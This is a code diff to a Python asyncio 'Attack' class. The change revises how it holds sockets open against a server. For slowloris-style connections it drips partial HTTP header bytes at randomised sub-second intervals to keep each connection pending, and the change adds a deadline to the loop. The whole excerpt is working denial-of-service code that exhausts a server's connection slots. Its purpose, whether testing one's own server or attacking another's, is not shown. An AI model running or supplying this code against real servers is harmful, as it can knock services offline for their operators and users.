@@ -116,20 +116,20 @@ class Attack:
             yield from b"X-Slow-%d-%d: %d\r\n" % (index, line, line)
 
     async def hold(self, kind, index, reader, writer):
-        """Until the server closes the socket (returns True) or the attack stops."""
-        if kind != "slowloris":
-            while True:
-                if not await reader.read(4096):
-                    return True
-        pending = self.slow_headers(index)
-        while True:
+        """Until the server closes the socket (returns True) or the deadline
+        (returns False); the run also cancels it when the attack stops."""
+        pending = self.slow_headers(index) if kind == "slowloris" else None
+        while time.monotonic() < self.deadline:
+            wait = 0.8 + random.random() * 0.4 if pending else 5.0
             try:
-                data = await asyncio.wait_for(reader.read(4096), 0.8 + random.random() * 0.4)
+                data = await asyncio.wait_for(reader.read(4096), wait)
                 if not data:
                     return True
             except asyncio.TimeoutError:
-                writer.write(bytes([next(pending)]))
-                await writer.drain()
+                if pending:
+                    writer.write(bytes([next(pending, ord(" "))]))
+                    await writer.drain()
+        return False
 
     async def attacker(self, kind, index, first):
         """One socket, re-opened whenever the server closes it; bounded by the
